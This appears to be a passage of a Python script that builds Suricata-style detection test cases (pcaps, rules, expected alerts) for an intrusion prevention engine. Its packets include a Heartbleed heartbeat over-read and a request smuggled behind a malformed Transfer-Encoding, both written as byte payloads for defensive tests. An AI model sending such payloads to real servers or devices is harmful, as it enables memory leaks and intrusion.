"""Generate the detection conformance cases in tests/detect/cases/ (verify format).

    python tests/detect/make_cases.py

Each case folder gets input.pcap (built with scapy, documentation addresses
only), test.rules and test.yaml with the expected alert counts. The cases are
committed; rerun this script only to change them.
"""
from __future__ import annotations

import os

from scapy.all import IP, TCP, UDP, Ether, Raw, wrpcap

HERE = os.path.join(os.path.dirname(os.path.abspath(__file__)), "cases")
CLIENT, SERVER = "192.0.2.10", "198.51.100.20"
# Fixed, locally administered MACs: without them scapy resolves each frame's
# MAC by ARP on the host's own interface while building it.
CLIENT_MAC, SERVER_MAC = "02:00:00:00:00:0a", "02:00:00:00:00:14"


def _tcp_session(segments: list[tuple[bool, bytes]], sport: int = 40000, start: float = 0.0,
                 client: str = CLIENT, dport: int = 80, server: str = SERVER) -> list:
    """Handshake, then data segments (to_server flag, bytes) each acknowledged."""
    client_seq, server_seq = 1000, 5000
    frames = [
        Ether(src=CLIENT_MAC, dst=SERVER_MAC) / IP(src=client, dst=server) / TCP(sport=sport, dport=dport, flags="S", seq=client_seq),
        Ether(src=SERVER_MAC, dst=CLIENT_MAC) / IP(src=server, dst=client) / TCP(sport=dport, dport=sport, flags="SA", seq=server_seq, ack=client_seq + 1),
        Ether(src=CLIENT_MAC, dst=SERVER_MAC) / IP(src=client, dst=server) / TCP(sport=sport, dport=dport, flags="A", seq=client_seq + 1, ack=server_seq + 1),
    ]
    client_seq += 1
    server_seq += 1
    for to_server, data in segments:
        if to_server:
            frames.append(Ether(src=CLIENT_MAC, dst=SERVER_MAC) / IP(src=client, dst=server) / TCP(sport=sport, dport=dport, flags="PA", seq=client_seq, ack=server_seq) / Raw(data))
            client_seq += len(data)
            frames.append(Ether(src=SERVER_MAC, dst=CLIENT_MAC) / IP(src=server, dst=client) / TCP(sport=dport, dport=sport, flags="A", seq=server_seq, ack=client_seq))
        else:
            frames.append(Ether(src=SERVER_MAC, dst=CLIENT_MAC) / IP(src=server, dst=client) / TCP(sport=dport, dport=sport, flags="PA", seq=server_seq, ack=client_seq) / Raw(data))
            server_seq += len(data)
            frames.append(Ether(src=CLIENT_MAC, dst=SERVER_MAC) / IP(src=client, dst=server) / TCP(sport=sport, dport=dport, flags="A", seq=client_seq, ack=server_seq))
    return _stamp(frames, start)


def _stamp(frames: list, start: float = 0.0) -> list:
    """Capture times 10 ms apart from a fixed epoch, so the pcaps are reproducible."""
    for index, frame in enumerate(frames):
        frame.time = 1700000000 + start + index * 0.01
    return frames


def _write(name: str, frames: list, rules: str, expected: dict[int, int], note: str,
           blocked: dict[int, int] | None = None,
           checks: list[tuple[int, dict]] | None = None, args: tuple[str, ...] = ()) -> None:
    """`blocked`: sid -> how many of its alerts must carry action "blocked"
    (a drop rule's verdict, the same offline as inline). `checks`: further
    (count, match) filters on the EVE records. `args`: Suricata's command
    line flags for the case (e.g. --simulate-ips)."""
    folder = os.path.join(HERE, name)
    os.makedirs(folder, exist_ok=True)
    wrpcap(os.path.join(folder, "input.pcap"), frames)
    with open(os.path.join(folder, "test.rules"), "w") as out:
        out.write(rules)
    lines = [f"# {line}" if line else "#" for line in note.splitlines()]
    if args:
        lines += ["args:"] + [f"  - {arg}" for arg in args]
    lines += ["checks:"]
    for sid, count in expected.items():
        lines += ["  - filter:", f"      count: {count}", "      match:",
                  "        event_type: alert", f"        alert.signature_id: {sid}"]
    for sid, count in (blocked or {}).items():
        lines += ["  - filter:", f"      count: {count}", "      match:",
                  "        event_type: alert", f"        alert.signature_id: {sid}",
                  "        alert.action: blocked"]
    for count, match in checks or ():
        lines += ["  - filter:", f"      count: {count}", "      match:"]
        lines += [f"        {key}: {value}" for key, value in match.items()]
    with open(os.path.join(folder, "test.yaml"), "w") as out:
        out.write("\n".join(lines) + "\n")


def main() -> None:
    _write("stream-content-spans-segments",
           _tcp_session([(True, b"GET /a HTTP/1.1\r\nX-Probe: uid=0"), (True, b"(root)\r\n\r\n")]),
           'alert tcp any any -> any any (msg:"split content"; flow:to_server,established; '
           'content:"uid=0|28|root|29|"; sid:1001; rev:1;)\n'
           'alert tcp any any -> any any (msg:"to_client must not fire"; flow:to_client; '
           'content:"uid=0"; sid:1002; rev:1;)\n',
           {1001: 1, 1002: 0},
           "a content split over two segments alerts once; a to_client rule stays silent")
    frames = []
    for index in range(5):
        frame = (Ether(src=CLIENT_MAC, dst=SERVER_MAC) / IP(src=CLIENT, dst=SERVER)
                 / UDP(sport=5000 + index, dport=9999) / Raw(b"PING-IOT"))
        frame.time = 1700000000 + index
        frames.append(frame)
    _write("threshold-limit-udp", frames,
           'alert udp any any -> any 9999 (msg:"limited"; content:"PING-IOT"; '
           'threshold:type limit, track by_src, count 3, seconds 60; sid:1003; rev:1;)\n'
           'alert udp any any -> any 9999 (msg:"after two"; content:"PING"; '
           'detection_filter:track by_src, count 2, seconds 60; sid:1004; rev:1;)\n',
           {1003: 3, 1004: 3},
           "threshold limit caps at 3, detection_filter fires from the 3rd match")
    _write("distance-within-backtrack",
           _tcp_session([(True, b"key=ax key=ay key=ab end")]),
           'alert tcp any any -> any 80 (msg:"backtrack"; content:"key="; content:"b"; '
           'distance:1; within:1; sid:1005; rev:1;)\n'
           'alert tcp any any -> any 80 (msg:"negated"; content:"key="; content:!"zz"; '
           'distance:0; sid:1006; rev:1;)\n',
           {1005: 1, 1006: 1},
           "relative content retried at later occurrences; negated content absent")
    stream_size_case()
    xbits_case()
    flowint_case()
    event_cases()
    http_events_case()
    virtual_patch_cases()
    heartbleed_vpatch_case()
    mirai_telnet_case()
    relative_keyword_cases()
    dns_keyword_cases()
    simultaneous_open_case()
    threshold_config_cases()
    header_buffer_cases()
    byte_math_cases()
    tls_event_case()


# The rules of Suricata's rules/http-events.rules whose events ReefGuard
# raises, verbatim. The others (and the file's non-event rule) are left out:
# a rule naming an event the engine never raises is refused, and a refused
# rule fails a verify case at load (ips.event_names.REFUSED_APPLAYER_EVENTS
# says why each one is not raised).
HTTP_EVENTS_RULES = """\
# From OISF/suricata, rules/http-events.rules (commit 06561e92858956ab56276e4175d8185dea5e1e7b,
# https://github.com/OISF/suricata/blob/master/rules/http-events.rules).
# Copyright (C) Open Information Security Foundation; licensed GPL-2.0-only, as Suricata.
# Only the rules whose events ReefGuard raises are kept; left out (refused at load,
# see ips/event_names.py REFUSED_APPLAYER_EVENTS and LOG_ONLY): sids 2221000 2221001
# 2221006 2221011 2221012 2221018 2221019 2221022 2221023 2221024 2221026 2221032
# 2221033, the later sids 2221034-2221057 (events not raised here), and a rule
# without an app-layer-event.
#
# HTTP event  rules
#
# SID's fall in the 2221000+ range. See http://doc.emergingthreats.net/bin/view/Main/SidAllocation
#
# These sigs fire at most once per HTTP transaction.
#
# A flowint http.anomaly.count is incremented for each match. By default it will be 0.
#
alert http any any -> any any (msg:"SURICATA HTTP request field missing colon"; flow:established,to_server; app-layer-event:http.request_field_missing_colon; flowint:http.anomaly.count,+,1; classtype:protocol-command-decode; sid:2221002; rev:1;)
alert http any any -> any any (msg:"SURICATA HTTP response field missing colon"; flow:established,to_client; app-layer-event:http.response_field_missing_colon; flowint:http.anomaly.count,+,1; classtype:protocol-command-decode; sid:2221020; rev:1;)
alert http any any -> any any (msg:"SURICATA HTTP invalid request chunk len"; flow:established,to_server; app-layer-event:http.invalid_request_chunk_len; flowint:http.anomaly.count,+,1; classtype:protocol-command-decode; sid:2221003; rev:1;)
alert http any any -> any any (msg:"SURICATA HTTP invalid response chunk len"; flow:established,to_client; app-layer-event:http.invalid_response_chunk_len; flowint:http.anomaly.count,+,1; classtype:protocol-command-decode; sid:2221004; rev:1;)
alert http any any -> any any (msg:"SURICATA HTTP invalid transfer encoding value in request"; flow:established,to_server; app-layer-event:http.invalid_transfer_encoding_value_in_request; flowint:http.anomaly.count,+,1; classtype:protocol-command-decode; sid:2221005; rev:1;)
alert http any any -> any any (msg:"SURICATA HTTP invalid content length field in request"; flow:established,to_server; app-layer-event:http.invalid_content_length_field_in_request; flowint:http.anomaly.count,+,1; classtype:protocol-command-decode; sid:2221007; rev:1;)
alert http any any -> any any (msg:"SURICATA HTTP invalid content length field in response"; flow:established,to_client; app-layer-event:http.invalid_content_length_field_in_response; flowint:http.anomaly.count,+,1; classtype:protocol-command-decode; sid:2221008; rev:1;)
alert http any any -> any any (msg:"SURICATA HTTP status 100-Continue already seen"; flow:established,to_client; app-layer-event:http.100_continue_already_seen; flowint:http.anomaly.count,+,1; classtype:protocol-command-decode; sid:2221009; rev:1;)
alert http any any -> any any (msg:"SURICATA HTTP unable to match response to request"; flow:established,to_client; app-layer-event:http.unable_to_match_response_to_request; flowint:http.anomaly.count,+,1; classtype:protocol-command-decode; sid:2221010; rev:1;)
alert http any any -> any any (msg:"SURICATA HTTP request header invalid"; flow:established,to_server; app-layer-event:http.request_header_invalid; flowint:http.anomaly.count,+,1; classtype:protocol-command-decode; sid:2221013; rev:1;)
alert http any any -> any any (msg:"SURICATA HTTP response header invalid"; flow:established,to_client; app-layer-event:http.response_header_invalid; flowint:http.anomaly.count,+,1; classtype:protocol-command-decode; sid:2221021; rev:1;)
alert http any any -> any any (msg:"SURICATA HTTP missing Host header"; flow:established,to_server; app-layer-event:http.missing_host_header; flowint:http.anomaly.count,+,1; classtype:protocol-command-decode; sid:2221014; rev:1;)
# Alert if hostname is both part of URL and Host header and they are not the same.
alert http any any -> any any (msg:"SURICATA HTTP Host header ambiguous"; flow:established,to_server; app-layer-event:http.host_header_ambiguous; flowint:http.anomaly.count,+,1; classtype:protocol-command-decode; sid:2221015; rev:1;)
alert http any any -> any any (msg:"SURICATA HTTP invalid request field folding"; flow:established,to_server; app-layer-event:http.invalid_request_field_folding; flowint:http.anomaly.count,+,1; classtype:protocol-command-decode; sid:2221016; rev:1;)
alert http any any -> any any (msg:"SURICATA HTTP invalid response field folding"; flow:established,to_client; app-layer-event:http.invalid_response_field_folding; flowint:http.anomaly.count,+,1; classtype:protocol-command-decode; sid:2221017; rev:1;)
# Host part of URI is invalid
alert http any any -> any any (msg:"SURICATA HTTP Host part of URI is invalid"; flow:established,to_server; app-layer-event:http.request_uri_host_invalid; flowint:http.anomaly.count,+,1; classtype:protocol-command-decode; sid:2221027; rev:1;)
# Host header is invalid
alert http any any -> any any (msg:"SURICATA HTTP Host header invalid"; flow:established,to_server; app-layer-event:http.request_header_host_invalid; flowint:http.anomaly.count,+,1; classtype:protocol-command-decode; sid:2221028; rev:1;)
# URI is terminated by non-compliant characters. RFC allows for space (0x20), but many implementations permit others like tab and more.
alert http any any -> any any (msg:"SURICATA HTTP URI terminated by non-compliant character"; flow:established,to_server; app-layer-event:http.uri_delim_non_compliant; flowint:http.anomaly.count,+,1; classtype:protocol-command-decode; sid:2221029; rev:1;)
# Method is terminated by non-compliant characters. RFC allows for space (0x20), but many implementations permit others like tab and more.
alert http any any -> any any (msg:"SURICATA HTTP METHOD terminated by non-compliant character"; flow:established,to_server; app-layer-event:http.method_delim_non_compliant; flowint:http.anomaly.count,+,1; classtype:protocol-command-decode; sid:2221030; rev:1;)
# Request line started with whitespace
alert http any any -> any any (msg:"SURICATA HTTP Request line with leading whitespace"; flow:established,to_server; app-layer-event:http.request_line_leading_whitespace; flowint:http.anomaly.count,+,1; classtype:protocol-command-decode; sid:2221031; rev:1;)

alert http any any -> any any (msg:"SURICATA HTTP duplicate content length field in request"; flow:established,to_server; app-layer-event:http.duplicate_content_length_field_in_request; flowint:http.anomaly.count,+,1; classtype:protocol-command-decode; sid:2221047; rev:1;)
alert http any any -> any any (msg:"SURICATA HTTP duplicate content length field in response"; flow:established,to_client; app-layer-event:http.duplicate_content_length_field_in_response; flowint:http.anomaly.count,+,1; classtype:protocol-command-decode; sid:2221048; rev:1;)
"""


def http_events_case() -> None:
    """Suricata's own HTTP event rules over requests and responses that
    raise a few of libhtp's events, each flow with the one anomaly named
    in its comment, and a clean exchange that raises none."""
    ok = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"
    frames = []
    flows = [
        # blanks before the method
        [(True, b" GET /status HTTP/1.1\r\nHost: cam.example\r\n\r\n"), (False, ok)],
        # a tab after the method, and no Host on HTTP/1.1
        [(True, b"GET\t/status HTTP/1.1\r\n\r\n"), (False, ok)],
        # an absolute URI whose host is no hostname, a Host with a blank in
        # it, and the two differ
        [(True, b"GET http://cam..example/ HTTP/1.1\r\nHost: cam example\r\n\r\n"), (False, ok)],
        # a second 100 Continue for one request, then a response to no request
        [(True, b"POST /upload HTTP/1.1\r\nHost: cam.example\r\nExpect: 100-continue\r\n"
                b"Content-Length: 4\r\n\r\n"),
         (False, b"HTTP/1.1 100 Continue\r\n\r\n"),
         (True, b"data"),
         (False, b"HTTP/1.1 100 Continue\r\n\r\n" + ok),
         (False, ok)],
        # clean: none of the events
        [(True, b"GET /status HTTP/1.1\r\nHost: cam.example:8080\r\n\r\n"), (False, ok)],
    ]
    for index, segments in enumerate(flows):
        frames += _tcp_session(segments, sport=40200 + index, start=index)
    _write("http-events-libhtp", frames, HTTP_EVENTS_RULES,
           {2221031: 1, 2221030: 1, 2221014: 1, 2221027: 1, 2221028: 1, 2221015: 1,
            2221009: 1, 2221010: 1, 2221029: 0, 2221016: 0, 2221017: 0, 2221013: 0,
            2221021: 0, 2221002: 0, 2221020: 0},
           "Suricata's http-events.rules (the rules whose events ReefGuard raises) over "
           "requests and responses with a few libhtp anomalies")


def event_cases() -> None:
    # A virtual patch in the style of ET's CVE-2023-46747 / CVE-2023-41265
    # rules: a request smuggled behind a Transfer-Encoding the front end
    # reads differently (libhtp: anything but exactly "chunked").
    event_rules = (
        'alert http any any -> any any (msg:"smuggling behind a bad T-E"; '
        'flow:established,to_server; '
        'app-layer-event:http.invalid_transfer_encoding_value_in_request; '
        'http.method; content:"POST"; http.uri; content:"/tmui/"; startswith; '
        'sid:1017; rev:1;)\n'
        'alert http any any -> any any (msg:"bad T-E, event alone"; flow:to_server; '
        'app-layer-event:http.invalid_transfer_encoding_value_in_request; sid:1018; rev:1;)\n')
    body = b"5\r\nhello\r\n0\r\n\r\n"
    response = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"
    _write("app-layer-event-invalid-te",
           _tcp_session([(True, b"POST /tmui/login.jsp HTTP/1.1\r\nHost: bigip\r\n"
                                b"Transfer-Encoding: chunked, identity\r\n\r\n" + body),
                         (False, response)], sport=40030),
           event_rules, {1017: 1, 1018: 1},
           "app-layer-event: a request whose Transfer-Encoding is not exactly chunked")
    _write("app-layer-event-valid-te",
           _tcp_session([(True, b"POST /tmui/login.jsp HTTP/1.1\r\nHost: bigip\r\n"
                                b"Transfer-Encoding: Chunked\r\n\r\n" + body),
                         (False, response)], sport=40031),
           event_rules, {1017: 0, 1018: 0},
           "app-layer-event: the same request with a valid chunked body stays silent")
    # The second segment rewrites bytes the first one already delivered.
    client_seq = 1001
    frames = _tcp_session([], sport=40032)
    for seq, data in ((client_seq, b"GET /aaaa HTTP/1.1\r\n"), (client_seq + 5, b"bbbb HTTP/1.1\r\n")):
        frames.append(Ether(src=CLIENT_MAC, dst=SERVER_MAC) / IP(src=CLIENT, dst=SERVER)
                      / TCP(sport=40032, dport=80, flags="PA", seq=seq, ack=5001) / Raw(data))
    frames.append(Ether(src=SERVER_MAC, dst=CLIENT_MAC) / IP(src=SERVER, dst=CLIENT)
                  / TCP(sport=80, dport=40032, flags="A", seq=5001, ack=client_seq + 21))
    _stamp(frames, 10)
    _write("stream-event-overlap", frames,
           'alert tcp any any -> any any (msg:"overlap, different data"; '
           'stream-event:reassembly_overlap_different_data; sid:1020; rev:1;)\n'
           'alert tcp any any -> any any (msg:"no gap here"; '
           'stream-event:reassembly_seq_gap; sid:1021; rev:1;)\n',
           {1020: 1, 1021: 0},
           "stream-event: a retransmission with different bytes over delivered data")
    whole = bytes(IP(src=CLIENT, dst=SERVER) / UDP(sport=5353, dport=9999) / Raw(b"x" * 40))
    truncated = Ether(src=CLIENT_MAC, dst=SERVER_MAC, type=0x0800) / Raw(whole[:30])   # the IPv4 total length says 68
    truncated.time = 1700000020
    intact = (Ether(src=CLIENT_MAC, dst=SERVER_MAC) / IP(src=CLIENT, dst=SERVER)
              / UDP(sport=5354, dport=9999) / Raw(b"y" * 40))
    intact.time = 1700000021
    _write("decode-event-ipv4-trunc", [truncated, intact],
           'alert pkthdr any any -> any any (msg:"truncated IPv4"; '
           'decode-event:ipv4.trunc_pkt; sid:1022; rev:1;)\n'
           'alert pkthdr any any -> any any (msg:"not raised"; '
           'decode-event:ipv4.hlen_too_small; sid:1023; rev:1;)\n',
           {1022: 1, 1023: 0},
           "decode-event: a truncated IPv4 packet alerts although it cannot be decoded")


# Suricata's rules/tls-events.rules (OISF/suricata, GPL-2.0): the rules whose
# events ReefGuard raises. Left out, as their events are refused:
# invalid_tls_header, certificate_missing_element, certificate_unknown_element,
# certificate_invalid_length, certificate_invalid_string, heartbeat_message,
# dataleak_heartbeat_mismatch, too_many_records_in_packet.
_TLS_EVENT_RULES = """\
# From Suricata's rules/tls-events.rules (OISF/suricata, GPL-2.0), the rules
# whose events ReefGuard raises.
alert tls any any -> any any (msg:"SURICATA TLS invalid SSLv2 header"; flow:established; app-layer-event:tls.invalid_sslv2_header; flowint:tls.anomaly.count,+,1; classtype:protocol-command-decode; sid:2230000; rev:1;)
alert tls any any -> any any (msg:"SURICATA TLS invalid record version"; flow:established; app-layer-event:tls.invalid_record_version; flowint:tls.anomaly.count,+,1; classtype:protocol-command-decode; sid:2230015; rev:1;)
alert tls any any -> any any (msg:"SURICATA TLS invalid record type"; flow:established; app-layer-event:tls.invalid_record_type; flowint:tls.anomaly.count,+,1; classtype:protocol-command-decode; sid:2230002; rev:1;)
alert tls any any -> any any (msg:"SURICATA TLS invalid handshake message"; flow:established; app-layer-event:tls.invalid_handshake_message; flowint:tls.anomaly.count,+,1; classtype:protocol-command-decode; sid:2230003; rev:1;)
alert tls any any -> any any (msg:"SURICATA TLS invalid certificate"; flow:established; app-layer-event:tls.invalid_certificate; flowint:tls.anomaly.count,+,1; classtype:protocol-command-decode; sid:2230004; rev:1;)
alert tls any any -> any any (msg:"SURICATA TLS error message encountered"; flow:established; app-layer-event:tls.error_message_encountered; flowint:tls.anomaly.count,+,1; classtype:protocol-command-decode; sid:2230009; rev:1;)
alert tls any any -> any any (msg:"SURICATA TLS invalid record/traffic"; flow:established; app-layer-event:tls.invalid_ssl_record; flowint:tls.anomaly.count,+,1; classtype:protocol-command-decode; sid:2230010; rev:1;)
alert tls any any -> any any (msg:"SURICATA TLS overflow heartbeat encountered, possible exploit attempt (heartbleed)"; flow:established; app-layer-event:tls.overflow_heartbeat_message; flowint:tls.anomaly.count,+,1; classtype:protocol-command-decode; reference:cve,2014-0160; sid:2230012; rev:1;)
alert tls any any -> any any (msg:"SURICATA TLS invalid heartbeat encountered, possible exploit attempt (heartbleed)"; flow:established; app-layer-event:tls.invalid_heartbeat_message; flowint:tls.anomaly.count,+,1; classtype:protocol-command-decode; reference:cve,2014-0160; sid:2230013; rev:1;)
alert tls any any -> any any (msg:"SURICATA TLS multiple SNI extensions"; flow:established,to_server; app-layer-event:tls.multiple_sni_extensions; flowint:tls.anomaly.count,+,1; classtype:protocol-command-decode; sid:2230016; rev:1;)
alert tls any any -> any any (msg:"SURICATA TLS invalid SNI type"; flow:established,to_server; app-layer-event:tls.invalid_sni_type; flowint:tls.anomaly.count,+,1; classtype:protocol-command-decode; sid:2230017; rev:1;)
alert tls any any -> any any (msg:"SURICATA TLS invalid SNI length"; flow:established,to_server; app-layer-event:tls.invalid_sni_length; flowint:tls.anomaly.count,+,1; classtype:protocol-command-decode; sid:2230018; rev:1;)
alert tls any any -> any any (msg:"SURICATA TLS handshake invalid length"; flow:established; app-layer-event:tls.handshake_invalid_length; flowint:tls.anomaly.count,+,1; classtype:protocol-command-decode; sid:2230019; rev:1;)
"""


def _tls_record(content_type: int, body: bytes, version: int = 0x0303) -> bytes:
    return bytes([content_type]) + version.to_bytes(2, "big") + len(body).to_bytes(2, "big") + body


def _tls_message(message_type: int, body: bytes) -> bytes:
    return bytes([message_type]) + len(body).to_bytes(3, "big") + body


def _heartbeat(kind: int, payload: int, sent: int, padding: int) -> bytes:
    """A clear-text heartbeat record announcing `payload` bytes, carrying `sent`."""
    return _tls_record(24, bytes([kind]) + payload.to_bytes(2, "big") + b"P" * sent
                       + b"\x00" * padding, version=0x0302)


def tls_event_case() -> None:
    """Suricata's TLS event rules over six TLS flows (port 443): five raise
    events as Suricata 8 raises them, the sixth is a clean handshake with a
    heartbeat exchange that raises none."""
    from scapy.layers.tls.extensions import ServerName, TLS_Ext_ServerName
    from scapy.layers.tls.handshake import TLSClientHello, TLSServerHello
    from scapy.layers.tls.record import TLS

    def client_hello(*names: ServerName, version: int = 0x0303) -> bytes:
        hello = TLSClientHello(version=version, gmt_unix_time=0, random_bytes=bytes(28),
                               ciphers=[0xC02F, 0x009C],
                               ext=[TLS_Ext_ServerName(servernames=[name]) for name in names])
        return bytes(TLS(msg=[hello]))

    def server_hello(*messages: bytes) -> bytes:
        hello = bytes(TLSServerHello(gmt_unix_time=0, random_bytes=bytes(28), cipher=0xC02F))
        return _tls_record(22, hello + b"".join(messages) + _tls_message(14, b""))

    camera = ServerName(servername=b"camera.example")
    not_a_certificate = b"\x30\x03\x02\x01\x01"
    entry = len(not_a_certificate).to_bytes(3, "big") + not_a_certificate
    chain_with_junk = entry + b"\x00\x00"             # a certificate length cut short
    flows = [
        # Heartbleed (CVE-2014-0160) after the server's hello: 16 KB asked
        # back, none sent. Before it, a second SNI extension and a chain
        # whose last certificate has no room for its length.
        [(True, client_hello(camera, ServerName(servername=b"other.example"))),
         (False, server_hello(_tls_message(11, len(chain_with_junk).to_bytes(3, "big")
                                           + chain_with_junk))),
         (True, _tls_record(24, b"\x01\x40\x00", version=0x0302))],
        # An SNI of type 1, an unknown handshake message (type 99), a
        # heartbeat with 15 bytes of padding (RFC 6520 wants 16).
        [(True, client_hello(ServerName(nametype=1, servername=b"camera.example"))),
         (False, server_hello(_tls_message(99, b"\x00" * 8))),
         (True, _heartbeat(1, 16, 16, 15))],
        # A 256-byte SNI in a hello announcing version 0x0305: the client's
        # next record is refused whatever its header says. The server's
        # answer is an SSLv2 ERROR message.
        [(True, client_hello(ServerName(servername=b"a" * 252 + b".iot"), version=0x0305)),
         (False, b"\x80\x03\x00\x00\x01"),
         (True, _tls_record(20, b"\x01"))],
        # A session id longer than the rest of its ClientHello, then a record
        # of type 25.
        [(True, _tls_record(22, _tls_message(1, b"\x03\x03" + bytes(32) + b"\x20" + bytes(10)), 0x0301)),
         (True, _tls_record(25, b"\x00"))],
        # The server answers with an SSLv2 record of length 0.
        [(True, client_hello(camera)), (False, b"\x80\x00\x01\x00")],
        # Clean: a hello, a heartbeat answered, both sides' ChangeCipherSpec
        # and Finished (a handshake record of ciphertext), application data.
        [(True, client_hello(camera)), (False, server_hello()),
         (True, _heartbeat(1, 16, 16, 16)), (False, _heartbeat(2, 16, 16, 16)),
         (True, _tls_record(20, b"\x01") + _tls_record(22, bytes(range(40)))),
         (False, _tls_record(20, b"\x01") + _tls_record(22, bytes(range(40)))),
         (True, _tls_record(23, b"GET / HTTP/1.1 (encrypted)"))],
    ]
    frames = []
    for index, segments in enumerate(flows):
        frames += _tcp_session(segments, sport=40200 + index, start=index, dport=443)
    clean = 40200 + len(flows) - 1
    # A TLS flow has one transaction. The SNI rules (to_server) alert once;
    # the others, bound to no direction, once per direction the transaction
    # is inspected in after the event (Suricata's per-direction detect
    # state): twice, but in the flow with client data only.
    _write("tls-events", frames, _TLS_EVENT_RULES,
           {2230016: 1, 2230004: 2, 2230012: 2, 2230017: 1, 2230003: 2, 2230013: 2,
            2230018: 1, 2230009: 2, 2230015: 2, 2230019: 1, 2230002: 1, 2230000: 2, 2230010: 2},
           "Suricata's TLS event rules that load (13 of 21) over five flows raising their "
           "events and a clean one (a heartbeat exchange included) raising none; the "
           "Heartbleed request alerts on 2230012 in its flow only",
           checks=[(1, {"event_type": "alert", "alert.signature_id": 2230012, "src_port": 40200}),
                   (1, {"event_type": "alert", "alert.signature_id": 2230012, "dest_port": 40200}),
                   (0, {"event_type": "alert", "src_port": clean}),
                   (0, {"event_type": "alert", "dest_port": clean})])


def heartbleed_vpatch_case() -> None:
    """The Heartbleed patch (9100129) as shipped: a heartbeat asking back
    16 KB and carrying 3 bytes, sent to a camera's TLS server and, by a
    malicious server, to the camera's client; heartbeats of honest length
    both ways pass."""
    from scapy.layers.tls.handshake import TLSClientHello, TLSServerHello
    from scapy.layers.tls.record import TLS

    hello = bytes(TLS(msg=[TLSClientHello(version=0x0303, gmt_unix_time=0,
                                          random_bytes=bytes(28), ciphers=[0xC02F])]))
    server = _tls_record(22, bytes(TLSServerHello(gmt_unix_time=0, random_bytes=bytes(28),
                                                  cipher=0xC02F)) + _tls_message(14, b""))
    bleed = _tls_record(24, b"\x01\x40\x00", version=0x0302)
    honest = _heartbeat(1, 16, 16, 16)
    answer = _heartbeat(2, 16, 16, 16)
    sessions = [
        # an attacker's client against the camera's web server
        ([(True, hello), (False, server), (True, bleed)], ATTACKER, DEVICE),
        # the camera's client against a malicious server (reverse Heartbleed)
        ([(True, hello), (False, server), (False, bleed)], DEVICE, ATTACKER),
        # honest heartbeats, the camera serving and the camera calling out
        ([(True, hello), (False, server), (True, honest), (False, answer)], "192.0.2.30", DEVICE),
        ([(True, hello), (False, server), (False, honest), (True, answer)], DEVICE, ATTACKER),
    ]
    frames = []
    for index, (segments, client, server_ip) in enumerate(sessions):
        frames += _tcp_session(segments, sport=43000 + index, start=index * 2.0, client=client,
                               dport=443, server=server_ip)
    _write("vpatch-heartbleed-cve-2014-0160", frames, _shipped_rules(9100129), {9100129: 2},
           "OpenSSL Heartbleed (CVE-2014-0160): a heartbeat over-read toward a device drops, "
           "to its server or to its client; honest heartbeats pass. In IPS mode, as the box "
           "runs: the heartbeat is the flow's last record, and in IDS mode its transaction\n"
           "is only inspected at flow end, when there is nothing left to drop.",
           blocked={9100129: 2}, args=("--simulate-ips",),
           checks=[(1, {"event_type": "alert", "alert.signature_id": 9100129, "dest_ip": DEVICE,
                        "dest_port": 443}),
                   (1, {"event_type": "alert", "alert.signature_id": 9100129, "dest_ip": DEVICE,
                        "src_port": 443}),
                   (0, {"event_type": "alert", "src_port": 43002}),
                   (0, {"event_type": "alert", "src_port": 43003}),
                   (0, {"event_type": "alert", "dest_port": 43002}),
                   (0, {"event_type": "alert", "dest_port": 43003})])


def stream_size_case() -> None:
    # ET HUNTING's raw-TCP PE download rule relies on stream_size: the server
    # sends an executable while the client has sent nothing (SYN only: 1).
    exe = b"MZ\x90\x00" + bytes(60)
    frames = (_tcp_session([(False, exe)], sport=40001)
              + _tcp_session([(True, b"GET /x.exe\r\n"), (False, exe)], sport=40002, start=1.0))
    _write("stream-size", frames,
           'alert tcp any any -> any any (msg:"exe, client silent"; flow:established,to_client; '
           'stream_size:client,<,5; content:"MZ"; startswith; sid:1007; rev:1;)\n'
           'alert tcp any any -> any any (msg:"server past 100"; flow:to_client; '
           'stream_size:server,>,100; content:"MZ"; sid:1008; rev:1;)\n'
           'alert tcp any any -> any any (msg:"server used 65"; flow:to_client; '
           'stream_size:server,=,65; content:"MZ"; sid:1009; rev:1;)\n',
           {1007: 1, 1008: 0, 1009: 2},
           "stream_size counts sequence space as Suricata does (SYN = 1, then bytes in order)")


def xbits_case() -> None:
    # A two-step exploit as ET writes them: step 1 on one connection marks
    # the attacking host, step 2 on another connection alerts only from that
    # host and only within the expiry.
    frames = (_tcp_session([(True, b"STEP1 probe")], sport=40010)
              + _tcp_session([(True, b"STEP2 payload")], sport=40011, dport=8080, start=1.0)
              + _tcp_session([(True, b"STEP2 payload")], sport=40012, dport=8080, start=2.0,
                             client="192.0.2.99")
              + _tcp_session([(True, b"STEP2 payload")], sport=40013, dport=8080, start=100.0))
    _write("xbits", frames,
           'alert tcp any any -> any 80 (msg:"step 1"; flow:to_server; content:"STEP1"; '
           'xbits:set,ET.two_step,track ip_src,expire 60; noalert; sid:1010; rev:1;)\n'
           'alert tcp any any -> any 8080 (msg:"step 2 after step 1"; flow:to_server; '
           'content:"STEP2"; xbits:isset,ET.two_step,track ip_src; sid:1011; rev:1;)\n'
           'alert tcp any any -> any 8080 (msg:"step 2 alone"; flow:to_server; '
           'content:"STEP2"; xbits:isnotset,ET.two_step,track ip_src; sid:1012; rev:1;)\n',
           {1010: 0, 1011: 1, 1012: 2},
           "xbits across connections: per source host, with expiry")


def flowint_case() -> None:
    # A counter per flow: the third request for a DLL on one connection alerts.
    frames = _tcp_session([(True, b"GET /a.dll HTTP/1.1\r\n\r\n"),
                           (True, b"GET /b.dll HTTP/1.1\r\n\r\n"),
                           (True, b"GET /c.dll HTTP/1.1\r\n\r\n")], sport=40020)
    _write("flowint", frames,
           'alert tcp any any -> any 80 (msg:"count"; flow:to_server; content:".dll"; '
           'flowint:dll,+,1; noalert; sid:1013; rev:1;)\n'
           'alert tcp any any -> any 80 (msg:"third dll"; flow:to_server; content:".dll"; '
           'flowint:dll,>=,3; sid:1014; rev:1;)\n'
           'alert tcp any any -> any 80 (msg:"first dll"; flow:to_server; content:".dll"; '
           'flowint:dll,==,1; sid:1015; rev:1;)\n'
           'alert tcp any any -> any 80 (msg:"never counted"; flow:to_server; content:"GET"; '
           'flowint:other,isset; sid:1016; rev:1;)\n',
           {1013: 0, 1014: 1, 1015: 1, 1016: 0},
           "flowint: per-flow counter set by one rule, compared by others")


# -- virtual patches ------------------------------------------------------------
# Each case runs the rule exactly as shipped in signatures/virtual-patches.rules
# (copied into test.rules by sid): the exploit request as botnets send it, its
# encoded variants, and the device's normal admin traffic to the same endpoint.
